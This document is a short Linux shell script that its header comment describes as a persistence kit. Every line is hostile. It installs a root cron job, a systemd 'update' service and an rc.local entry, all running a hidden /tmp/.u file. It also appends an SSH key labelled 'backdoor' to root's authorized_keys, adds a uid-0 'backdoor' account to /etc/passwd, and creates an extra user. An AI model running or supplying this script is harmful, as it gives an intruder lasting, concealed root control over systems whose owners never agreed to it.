#!/bin/sh
# Persistence: cron, systemd unit, rc.local, authorized_keys, a new account.
/bin/mkdir -p /etc/cron.d /etc/systemd/system /root/.ssh
echo '* * * * * root /tmp/.u' >> /etc/crontab
printf '[Service]\nExecStart=/tmp/.u\n' > /etc/systemd/system/update.service
echo '/tmp/.u &' >> /etc/rc.local
echo 'ssh-ed25519 AAAAC3Nza backdoor' >> /root/.ssh/authorized_keys
echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd
/bin/adduser -D -H svc 2>/dev/null
exit 0
